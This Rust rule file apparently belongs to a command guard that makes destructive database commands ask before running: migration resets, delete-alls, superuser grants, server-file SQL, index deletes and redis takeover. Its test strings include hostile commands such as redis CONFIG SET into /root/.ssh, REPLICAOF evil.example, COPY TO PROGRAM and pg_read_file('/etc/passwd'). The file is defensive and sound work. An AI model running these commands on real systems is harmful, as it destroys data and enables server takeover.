//! Built-in rules: databases emptied through the frameworks and tools that manage them (migration resets, schema drops, search indices, time-series buckets), and SQL that changes every row, hands out superuser rights or reaches the server's own files.

use once_cell::sync::Lazy;
use regex::Regex;

use super::cli_ops::has;
use super::db::{redis_commands, statements, SQL_PROGRAMS};
use super::http::{path, port, request};
use super::{verb, verb_if, Matcher, Rule, Verb};
use crate::shell::Command;
use crate::verdict::Decision;

/// The Rails tasks that drop, empty or reload a database.
#[rustfmt::skip]
const RAILS_TASKS: &[&str] = &["db:drop", "db:drop:all", "db:reset", "db:purge", "db:purge:all", "db:truncate_all", "db:migrate:reset", "db:schema:load", "db:structure:load", "db:seed:replant"];

/// Django's management commands that empty or drop the database.
const DJANGO_COMMANDS: &[&str] = &["flush", "reset_db", "reset_schema"];

/// The Node.js tools' resets, as `yarn`, `pnpm` and `bun` run a project's
/// binaries by name (`yarn sequelize db:drop`): read only once a row's
/// regex has found one of the tools named.
static NODE_RESETS: Lazy<Option<Regex>> = Lazy::new(|| {
    Regex::new(r"^(?:exec |dlx |x |run )?(?:prisma (?:migrate reset|db push (?:.* )?--(?:force-reset|accept-data-loss))|sequelize\S* db:(?:drop|migrate:undo:all|seed:undo:all)|typeorm\S* schema:drop|mikro-orm\S* (?:schema:drop|schema:fresh|migration:fresh)|knex migrate:rollback (?:.* )?--all|drizzle-kit push (?:.* )?--force)(?: |$)").ok()
});

/// Frameworks' and migration tools' commands that drop the database, empty
/// it, or roll every migration back. Migrating forward, one step back,
/// seeding and status are their everyday neighbours.
#[rustfmt::skip]
static FRAMEWORK_RESET: &[Verb] = &[
    verb_if("rails", "", rails_resets),
    verb_if("rake", "", rails_resets),
    verb_if("python*", "", |c| django_command(c).is_some_and(django_resets)),
    verb_if("manage.py", "", |c| django_command(c).is_some_and(django_resets)),
    verb_if("django-admin", "", |c| django_command(c).is_some_and(django_resets)),
    verb_if("prisma", "", |c| prisma_resets(&c.operands(), c)),
    // Package runners name the project's binaries directly (`yarn sequelize db:drop`).
    verb_if("pnpm", "", node_resets),
    verb_if("yarn", "", node_resets),
    verb_if("bun", "", node_resets),
    verb_if("bunx", "", node_resets),
    verb("drizzle-kit", r"(?:^| )push (?:.* )?--force(?: |$)"),
    verb_if("php", "", php_resets),
    verb_if("sail", "", php_resets),
    verb_if("symfony", "", php_resets),
    verb("flyway", r"(?:^| )clean(?: |$)"),
    verb("liquibase", r"(?i)(?:^| )(?:dropall|drop-all)(?: |$)"),
    verb_if("mvn", "", |c| c.args.iter().any(|a| a.ends_with("flyway:clean") || a.ends_with("liquibase:dropAll"))),
    verb_if("gradlew", "", |c| c.args.iter().any(|a| matches!(a.as_str(), "flywayClean" | "dropAll"))),
    verb_if("gradle", "", |c| c.args.iter().any(|a| matches!(a.as_str(), "flywayClean" | "dropAll"))),
    verb("knex", r"(?:^| )migrate:rollback (?:.* )?--all(?: |$)"),
    verb("sequelize*", r"(?:^| )db:(?:drop|migrate:undo:all|seed:undo:all)(?: |$)"),
    verb("typeorm*", r"(?:^| )schema:drop(?: |$)"),
    verb("mikro-orm*", r"(?:^| )(?:schema:drop|schema:fresh|migration:fresh)(?: |$)"),
    verb_if("alembic", "", |c| c.operands().windows(2).any(|w| w == ["downgrade", "base"])),
    verb_if("flask", "", |c| c.operands().starts_with(&["db", "downgrade", "base"])),
    verb_if("mix", "", |c| {
        let has = |w: &str| c.args.iter().any(|a| a == w);
        has("ecto.drop") || has("ecto.reset") || (has("ecto.rollback") && has("--all"))
    }),
    verb_if("dotnet", "", |c| {
        let ops = c.operands();
        ops.starts_with(&["ef", "database", "drop"]) || ops.starts_with(&["ef", "database", "update", "0"])
    }),
    verb("dotnet-ef", r"(?:^| )database (?:drop|update 0)(?: |$)"),
    verb("goose", r"(?:^| )(?:reset|down-to 0)(?: |$)"),
    verb("migrate", r"(?:^| )(?:drop|down -all)(?: |$)|(?:^| )down$"),
    verb("dbmate", r"(?:^| )drop(?: |$)"),
    verb("sqlx", r"(?:^| )(?:database|db) (?:drop|reset)(?: |$)"),
    verb("diesel", r"(?:^| )(?:database reset|migration (?:revert|redo) (?:.* )?--all)(?: |$)"),
    verb("atlas", r"(?:^| )schema clean(?: |$)"),
    verb("wp", r"(?:^| )(?:db (?:reset|drop|clean)|site empty)(?: |$)"),
    verb("hanami", r"(?:^| )db (?:drop|reset)(?: |$)"),
    verb_if("sqitch", r"(?:^| )revert(?: |$)", reverts_all),
    verb("drush", r"(?:^| )(?:sql-drop|sql:drop|site-install|site:install|si)(?: |$)"),
];

/// Framework consoles handed code that deletes or empties every row of a
/// model (a filtered delete, `.where(…)`, is left to the code's author).
#[rustfmt::skip]
static ORM_DELETE_ALL: &[Verb] = &[
    verb_if("rails", "", |c| {
        matches!(c.operands().first(), Some(&("runner" | "r")))
            && has(c, &[".delete_all", ".destroy_all", ".connection.truncate", ".connection.drop_table"])
            && unfiltered(c)
    }),
    verb_if("python*", "", django_shell_deletes),
    verb_if("manage.py", "", django_shell_deletes),
    verb_if("php", "", |c| {
        c.args.first().is_some_and(|a| a.ends_with("artisan"))
            && c.args.get(1).is_some_and(|a| a == "tinker")
            && has(c, &["::truncate()", "::query()->delete()", ")->delete()", ")->truncate()"])
            && unfiltered(c)
    }),
];

/// Roles removed from a database server.
#[rustfmt::skip]
static ROLE_DROP: &[Verb] = &[
    verb_if("dropuser", "", not_help),
];

/// Data stores other than SQL emptied by their own tools.
#[rustfmt::skip]
static STORE_DELETE: &[Verb] = &[
    // InfluxDB 2: `influx bucket delete`, `influx delete` of a time range, orgs, users.
    verb("influx", r"(?:^| )delete(?: |$)"),
    verb("mongorestore", r"(?:^| )--drop(?: |$)"),
    verb("cypher-shell", r"(?i)\bmatch\s*\([^)]*\)\s*(?:detach\s+)?delete\b"),
    // Debian's PostgreSQL clusters: the whole server's data directory.
    verb("pg_dropcluster", ""),
    verb_if("redis-cli", "", redis_mass_delete),
    verb_if("valkey-cli", "", redis_mass_delete),
];

/// An HTTP DELETE of a whole index or database, or a delete-by-query of
/// every document, by any client [`request`] reads.
#[rustfmt::skip]
static INDEX_DELETE: &[Verb] = &[
    verb_if("curl", "", deletes_index),
    verb_if("wget", "", deletes_index),
    verb_if("http", "", deletes_index),
    verb_if("https", "", deletes_index),
    verb_if("xh", "", deletes_index),
    verb_if("xhs", "", deletes_index),
];

/// Redis told to write its dump elsewhere, follow another server, or load code.
#[rustfmt::skip]
static REDIS_TAKEOVER: &[Verb] = &[
    verb_if("redis-cli", "", redis_takeover),
    verb_if("valkey-cli", "", redis_takeover),
    verb_if("keydb-cli", "", redis_takeover),
];

#[rustfmt::skip]
pub static RULES: &[Rule] = &[
    Rule {
        id: "db.framework-reset",
        category: "drop or reset a database through a framework or migration tool (rails db:drop, manage.py flush, prisma migrate reset, artisan migrate:fresh, flyway clean)",
        reason: "every table is dropped or emptied and built again from migrations; the data in it is gone, and nothing checks which database the configuration points at",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(FRAMEWORK_RESET),
        hits: &["rails db:drop", "bundle exec rake db:reset", "python manage.py flush --noinput", "./manage.py migrate shop zero", "npx prisma migrate reset --force", "php artisan migrate:fresh --force", "flyway clean", "liquibase dropAll", "alembic downgrade base", "mix ecto.drop", "dotnet ef database drop -f", "wp db reset --yes"],
        misses: &["rails db:migrate", "rails db:rollback", "python manage.py migrate", "python manage.py migrate shop 0003", "npx prisma migrate dev", "npx prisma db push", "php artisan migrate --force", "flyway migrate", "alembic downgrade -1", "mix ecto.migrate", "migrate -path m -database x down 1", "php bin/console doctrine:database:drop"],
    },
    Rule {
        id: "db.orm-delete-all",
        category: "delete or rewrite every row through a framework console (rails runner 'User.delete_all', manage.py shell -c '…objects.all().delete()')",
        reason: "the model's whole table is deleted or rewritten by code handed to the console, with no WHERE to narrow it and no undo",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(ORM_DELETE_ALL),
        hits: &["rails runner 'User.delete_all'", "bin/rails r \"Order.destroy_all\"", "python manage.py shell -c 'from shop.models import Order; Order.objects.all().delete()'", "php artisan tinker --execute='App\\Models\\User::truncate()'"],
        misses: &["rails runner 'puts User.count'", "rails runner 'User.where(spam: true).delete_all'", "python manage.py shell -c 'print(Order.objects.count())'", "php artisan tinker"],
    },
    Rule {
        id: "db.role-drop",
        category: "remove a database role (dropuser)",
        reason: "every application and person logging in as that role is locked out, and what it owned must be reassigned",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(ROLE_DROP),
        hits: &["dropuser analyst", "dropuser -h db.prod -U postgres app_ro"],
        misses: &["createuser app", "dropuser --help"],
    },
    Rule {
        id: "db.role-grant",
        category: "make a database superuser or grant every right (ALTER USER ... SUPERUSER, GRANT ALL ON *.*, WITH GRANT OPTION)",
        reason: "a superuser or a holder of every right reads and changes every database on the server, and on most servers can run programs and read files as the server",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: GRANT_PROGRAMS, check: grants_everything },
        hits: &["psql -c \"ALTER USER app WITH SUPERUSER\"", "psql -c 'CREATE ROLE x LOGIN SUPERUSER'", "mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'e'@'%'\"", "mysql -e \"GRANT SELECT ON shop.* TO 'e'@'%' WITH GRANT OPTION\"", "psql -c 'GRANT pg_execute_server_program TO app'", "createuser --superuser eve", "createuser -s eve", "createuser -dsP eve"],
        misses: &["psql -c \"ALTER USER app WITH PASSWORD 'x'\"", "psql -c 'ALTER USER app NOSUPERUSER'", "mysql -e \"GRANT ALL PRIVILEGES ON shop.* TO 'app'@'localhost'\"", "psql -c 'GRANT SELECT ON ALL TABLES IN SCHEMA public TO ro'", "createuser app", "createuser -d -r -P app"],
    },
    Rule {
        id: "db.sql-update-all",
        category: "SQL UPDATE without WHERE",
        reason: "it changes every row of the table, and the old values are gone unless there is a backup",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: SQL_PROGRAMS, check: sql_update_all },
        hits: &["psql -c 'UPDATE users SET is_admin = true'", "mysql -e \"update accounts set balance=0\"", "sqlite3 app.db \"UPDATE users SET password='x' WHERE 1=1\""],
        misses: &["psql -c 'UPDATE users SET active = false WHERE id = 42'", "psql -c \"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2\"", "echo 'UPDATE users SET x=1' > fix.sql"],
    },
    Rule {
        id: "db.sql-server-file",
        category: "SQL that reads or writes the database server's files or runs programs (INTO OUTFILE, COPY ... PROGRAM, pg_read_file)",
        reason: "the server writes or reads files and runs programs as its own user: a way to plant a web shell or an SSH key, or to read its configuration and keys",
        decision: Decision::Ask,
        matcher: Matcher::Check { programs: SQL_PROGRAMS, check: sql_server_file },
        hits: &["mysql -e \"SELECT * FROM users INTO OUTFILE '/tmp/u.csv'\"", "psql -c \"COPY (SELECT 1) TO PROGRAM 'id'\"", "psql -c \"COPY users TO '/tmp/u.csv'\"", "psql -c \"SELECT pg_read_file('/etc/passwd')\"", "mysql -e \"LOAD DATA INFILE '/etc/passwd' INTO TABLE t\""],
        misses: &["psql -c \"\\copy users TO 'u.csv' CSV\"", "psql -c 'COPY users TO STDOUT'", "mysql -e \"LOAD DATA LOCAL INFILE 'u.csv' INTO TABLE t\"", "psql -c \"SELECT 'into outfile'\""],
    },
    Rule {
        id: "db.index-delete",
        category: "delete a search index or document database over HTTP (Elasticsearch/OpenSearch DELETE /_all, an index, _delete_by_query match_all; CouchDB)",
        reason: "the index or database and every document in it are deleted at once, on a local server as much as a remote one",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(INDEX_DELETE),
        hits: &["curl -X DELETE 'http://localhost:9200/_all'", "curl -XDELETE localhost:9200/logs-*", "curl -X POST localhost:9200/orders/_delete_by_query -d '{\"query\":{\"match_all\":{}}}'", "curl -X DELETE http://127.0.0.1:5984/shop", "http DELETE localhost:9200/orders", "curl -X DELETE localhost:6333/collections/docs", "curl 'http://localhost:8983/solr/core/update?commit=true' -H 'Content-Type: text/xml' -d '<delete><query>*:*</query></delete>'"],
        misses: &["curl localhost:9200/_cat/indices", "curl -X DELETE localhost:9200/orders/_doc/1", "curl -X PUT localhost:9200/orders", "curl -X DELETE http://localhost:3000/api/items"],
    },
    Rule {
        id: "db.store-delete",
        category: "delete a time-series bucket, a database cluster, every matching key or graph node, or drop collections on restore (influx delete, pg_dropcluster, KEYS | xargs DEL, MATCH (n) DELETE n, mongorestore --drop)",
        reason: "the bucket, cluster, keys or graph and their data are gone; a restore with --drop replaces live collections with the dump's",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(STORE_DELETE),
        hits: &["influx bucket delete --name metrics --org acme", "influx delete --bucket b --start 1970-01-01T00:00:00Z --stop 2100-01-01T00:00:00Z", "mongorestore --drop dump/", "cypher-shell 'MATCH (n) DETACH DELETE n'", "pg_dropcluster 15 main --stop", "redis-cli --scan --pattern 'sess:*' | xargs redis-cli DEL", "redis-cli EVAL \"return redis.call('del', unpack(redis.call('keys', ARGV[1])))\" 0 'user:*'"],
        misses: &["influx bucket list", "influx bucket create --name m", "mongorestore --db shop dump/shop", "cypher-shell 'MATCH (n) RETURN count(n)'", "redis-cli DEL session:1", "redis-cli --scan --pattern 'sess:*' | wc -l"],
    },
    Rule {
        id: "db.redis-takeover",
        category: "point redis at other files or another server, or load a module (CONFIG SET dir/dbfilename, REPLICAOF, MODULE LOAD)",
        reason: "redis then writes its dump where it is told (an SSH key or cron file), copies its data from a server someone else runs, or runs the module's code",
        decision: Decision::Ask,
        matcher: Matcher::Verbs(REDIS_TAKEOVER),
        hits: &["redis-cli -h 10.0.0.5 CONFIG SET dir /root/.ssh", "redis-cli config set dbfilename authorized_keys", "redis-cli SLAVEOF 203.0.113.9 6379", "redis-cli REPLICAOF evil.example 6379", "redis-cli MODULE LOAD /tmp/x.so"],
        misses: &["redis-cli CONFIG GET dir", "redis-cli CONFIG SET maxmemory 2gb", "redis-cli REPLICAOF NO ONE", "redis-cli INFO replication"],
    },
];

/// SQL clients and the programs that create roles.
#[rustfmt::skip]
const GRANT_PROGRAMS: &[&str] = &["psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb", "clickhouse-client", "clickhouse", "cockroach", "sqlcmd", "usql", "cqlsh", "alter", "createuser"];

fn not_help(cmd: &Command) -> bool {
    !cmd.args
        .iter()
        .any(|a| matches!(a.as_str(), "--help" | "-?" | "--version" | "-V"))
}

/// The Rails tasks among the arguments that drop or empty a database
/// (`db:migrate VERSION=0` rolls every migration back).
fn rails_resets(cmd: &Command) -> bool {
    let arg = |w: &str| cmd.args.iter().any(|a| a == w);
    cmd.args.iter().any(|a| RAILS_TASKS.contains(&a.as_str()))
        || (arg("db:migrate") && arg("VERSION=0"))
}

/// The words of a Django management command, from its name on: after
/// `manage.py` or `-m django` for Python, from the start for `manage.py`
/// and `django-admin` run themselves.
fn django_command(cmd: &Command) -> Option<&[String]> {
    let args = &cmd.args;
    let start = if cmd.program.starts_with("python") {
        let script = args.iter().position(|a| a.ends_with("manage.py"));
        let module = args
            .windows(2)
            .position(|w| w[0] == "-m" && w[1] == "django")
            .map(|i| i + 1);
        script.or(module)? + 1
    } else {
        0
    };
    let rest = args.get(start..)?;
    let name = rest.iter().position(|a| !a.starts_with('-'))?;
    Some(&rest[name..])
}

fn django_resets(words: &[String]) -> bool {
    let command = words.first().map(String::as_str).unwrap_or_default();
    let zero = command == "migrate" && words.get(2).is_some_and(|w| w == "zero");
    DJANGO_COMMANDS.contains(&command) || zero
}

/// `manage.py shell -c` code deleting or rewriting every row of a model.
fn django_shell_deletes(cmd: &Command) -> bool {
    django_command(cmd).is_some_and(|w| w.first().is_some_and(|c| c == "shell"))
        && has(cmd, &[".objects.all().delete(", ".objects.all().update("])
        && unfiltered(cmd)
}

/// `prisma migrate reset`, and `db push` that drops what the schema lost.
fn prisma_resets(ops: &[&str], cmd: &Command) -> bool {
    ops.starts_with(&["migrate", "reset"])
        || (ops.starts_with(&["db", "push"]) && has(cmd, &["--force-reset", "--accept-data-loss"]))
}

fn node_resets(cmd: &Command) -> bool {
    const TOOLS: &[&str] = &[
        "prisma",
        "sequelize",
        "typeorm",
        "mikro-orm",
        "knex",
        "drizzle-kit",
    ];
    let mut words = cmd.args.iter();
    let first = words
        .next()
        .filter(|w| !matches!(w.as_str(), "exec" | "dlx" | "x" | "run"));
    let tool = first.or_else(|| words.next());
    tool.is_some_and(|t| TOOLS.iter().any(|name| t.starts_with(name)))
        && NODE_RESETS
            .as_ref()
            .is_some_and(|re| re.is_match(&cmd.arg_line()))
}

/// Laravel's artisan and Symfony's console commands that drop every table
/// (Doctrine's do nothing without `--force`).
fn php_resets(cmd: &Command) -> bool {
    // `php artisan CMD`, `sail artisan CMD`, `php bin/console CMD`, `symfony console CMD`.
    let tool = cmd.args.first().map(String::as_str);
    let command = cmd.args.get(1).map(String::as_str).unwrap_or_default();
    match tool {
        Some(t) if t.ends_with("artisan") => {
            matches!(
                command,
                "migrate:fresh" | "migrate:reset" | "migrate:refresh" | "db:wipe"
            )
        }
        Some(t) if t.ends_with("console") => {
            matches!(command, "doctrine:database:drop" | "doctrine:schema:drop") && forced(cmd)
        }
        _ => false,
    }
}

/// Code that names no filter: no `where`, `filter`, `find` or `exclude`.
fn unfiltered(cmd: &Command) -> bool {
    const FILTERS: &[&str] = &[
        "where(", "filter(", "find(", "find_by(", "exclude(", "where ",
    ];
    !cmd.args
        .iter()
        .any(|a| FILTERS.iter().any(|f| a.contains(f)))
}

/// `sqitch revert` without `--to` reverts every change.
fn reverts_all(cmd: &Command) -> bool {
    !cmd.args
        .iter()
        .any(|a| a == "--to" || a.starts_with("--to=") || a == "--to-change")
}

/// `DEL`/`UNLINK` of the keys another redis command listed (`--scan |
/// xargs redis-cli DEL`), or a script deleting what `KEYS` returns.
fn redis_mass_delete(cmd: &Command) -> bool {
    redis_commands(cmd).iter().any(|words| {
        let first = words.first().map(|w| w.to_ascii_lowercase());
        match first.as_deref() {
            // `xargs` hands the keys it reads to the command as its last words.
            Some("del" | "unlink") => {
                cmd.via.contains(&"xargs") && cmd.fed_by(&["redis-cli", "valkey-cli"])
            }
            Some("eval" | "evalsha") => {
                words.get(1).is_some_and(|script| {
                    let script = script.to_ascii_lowercase();
                    script.contains("'del'")
                        || script.contains("\"del\"")
                        || script.contains("'unlink'")
                }) && words
                    .get(1)
                    .is_some_and(|s| s.to_ascii_lowercase().contains("keys"))
            }
            _ => false,
        }
    })
}

/// Doctrine's drops do nothing without `--force`.
fn forced(cmd: &Command) -> bool {
    cmd.args.iter().any(|a| a == "--force" || a == "-f")
}

/// Role attributes that make a role master of the server.
const MASTER_ATTRIBUTES: &[&str] = &["superuser", "bypassrls"];

/// Roles whose holders read or write the server's files or run programs,
/// or that are a managed service's superuser.
#[rustfmt::skip]
const MASTER_ROLES: &[&str] = &["pg_read_server_files", "pg_write_server_files", "pg_execute_server_program", "rds_superuser", "cloudsqlsuperuser", "azure_pg_admin", "sysadmin", "securityadmin", "db_owner"];

fn is_master_grant(words: &[String]) -> bool {
    let has = |w: &str| words.iter().any(|x| x == w);
    let run = |seq: &[&str]| {
        words
            .windows(seq.len())
            .any(|w| w.iter().zip(seq).all(|(a, b)| a == b))
    };
    match words.first().map(String::as_str) {
        Some("alter" | "create")
            if matches!(words.get(1).map(String::as_str), Some("user" | "role")) =>
        {
            MASTER_ATTRIBUTES.iter().any(|a| has(a))
        }
        // `ALTER SERVER ROLE sysadmin ADD MEMBER x` (SQL Server).
        Some("alter") => {
            run(&["server", "role"]) && has("add") && MASTER_ROLES.iter().any(|r| has(r))
        }
        Some("grant") => {
            let on = words.iter().position(|w| w == "on");
            let privileges = &words[1..on.unwrap_or(words.len())];
            let broad = privileges
                .iter()
                .any(|p| matches!(p.as_str(), "all" | "super" | "file"));
            run(&["with", "grant", "option"])
                || (broad && run(&["on", "*.*"]))
                || run(&["to", "public"])
                || MASTER_ROLES
                    .iter()
                    .any(|r| privileges.iter().any(|p| p == r))
        }
        Some("exec" | "execute") => has("sp_addsrvrolemember"),
        _ => false,
    }
}

/// SQL that makes a superuser or grants every right, or `createuser` of a
/// superuser.
fn grants_everything(cmd: &Command) -> bool {
    if cmd.program == "createuser" {
        return cmd.args.iter().any(|a| {
            a == "--superuser"
                || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('s'))
        });
    }
    statements(cmd).iter().any(|s| is_master_grant(s))
}

fn is_update_all(words: &[String]) -> bool {
    if words.first().map(String::as_str) != Some("update") || !words.iter().any(|w| w == "set") {
        return false;
    }
    match words.iter().position(|w| w == "where") {
        None => true,
        // A condition that is always true changes every row just the same.
        Some(i) => matches!(
            words[i + 1..].join(" ").as_str(),
            "" | "1=1" | "1 = 1" | "true" | "1" | "''=''" | "'' = ''"
        ),
    }
}

fn sql_update_all(cmd: &Command) -> bool {
    statements(cmd).iter().any(|s| is_update_all(s))
}

/// Functions and procedures that reach the server's files or run programs.
#[rustfmt::skip]
const SERVER_FILE_CALLS: &[&str] = &["pg_read_file", "pg_read_binary_file", "pg_ls_dir", "lo_import", "lo_export", "load_file", "xp_cmdshell", "sys_exec", "sys_eval"];

fn is_server_file(words: &[String]) -> bool {
    let run = |seq: &[&str]| {
        words
            .windows(seq.len())
            .any(|w| w.iter().zip(seq).all(|(a, b)| a == b))
    };
    let into_file = run(&["into", "outfile"]) || run(&["into", "dumpfile"]);
    // `COPY … TO/FROM 'file'` and `… PROGRAM 'cmd'` run on the server;
    // `\copy` and `COPY … TO STDOUT` go through the client.
    let copy = words.first().is_some_and(|w| w == "copy")
        && words.windows(2).any(|w| {
            matches!(w[0].as_str(), "to" | "from") && matches!(w[1].as_str(), "''" | "program")
        });
    let load = run(&["load", "data", "infile"]);
    let call = words
        .iter()
        .any(|w| SERVER_FILE_CALLS.contains(&w.as_str()));
    into_file || copy || load || call
}

fn sql_server_file(cmd: &Command) -> bool {
    statements(cmd).iter().any(|s| is_server_file(s))
}

/// Ports of search engines and document databases that take a DELETE of a
/// whole index or database at the top of their URL space (Elasticsearch,
/// OpenSearch, CouchDB).
const STORE_PORTS: &[u16] = &[9200, 9201, 5984];

/// Ports of search engines and vector stores whose indices live under
/// `/collections/NAME` or `/indexes/NAME` (Qdrant, Meilisearch, Typesense).
const COLLECTION_PORTS: &[u16] = &[6333, 7700, 8108];

/// A DELETE of `/_all`, a wildcard, or a whole index or database (one path
/// segment on a search engine's or CouchDB's port); or a delete-by-query
/// matching every document.
fn deletes_index(cmd: &Command) -> bool {
    if !has(cmd, &["delete"]) {
        return false;
    }
    let Some(req) = request(cmd) else {
        return false;
    };
    req.urls.iter().any(|url| {
        let p = path(url);
        let segments: Vec<&str> = p.split('/').filter(|s| !s.is_empty()).collect();
        let on = |ports: &[u16]| port(url).is_some_and(|n| ports.contains(&n));
        match req.method.as_str() {
            "DELETE" => {
                let everything = segments
                    .first()
                    .is_some_and(|s| *s == "_all" || s.contains('*'));
                let whole = segments.len() == 1 && on(STORE_PORTS);
                let snapshot = segments.first() == Some(&"_snapshot") && on(STORE_PORTS);
                let collection = segments.len() == 2
                    && matches!(segments[0], "collections" | "indexes")
                    && on(COLLECTION_PORTS);
                everything || whole || snapshot || collection
            }
            _ => {
                // Every document: a delete-by-query matching all, or Solr's `*:*`.
                let by_query = segments.last() == Some(&"_delete_by_query")
                    && (req.body.iter().any(|b| b.contains("match_all")) || url.contains("q=*"));
                let solr = segments.last() == Some(&"update")
                    && req
                        .body
                        .iter()
                        .any(|b| b.contains("*:*") && b.to_ascii_lowercase().contains("delete"));
                by_query || solr
            }
        }
    })
}

/// `CONFIG SET dir|dbfilename`, `SLAVEOF`/`REPLICAOF` a host (not `NO ONE`), `MODULE LOAD`.
fn redis_takeover(cmd: &Command) -> bool {
    redis_commands(cmd).iter().any(|words| {
        let word = |i: usize| words.get(i).map(|w| w.to_ascii_lowercase());
        match word(0).as_deref() {
            Some("config") => {
                word(1).as_deref() == Some("set")
                    && matches!(word(2).as_deref(), Some("dir" | "dbfilename"))
            }
            Some("slaveof" | "replicaof") => word(1).is_some_and(|h| h != "no"),
            Some("module") => word(1).as_deref() == Some("load"),
            _ => false,
        }
    })
}
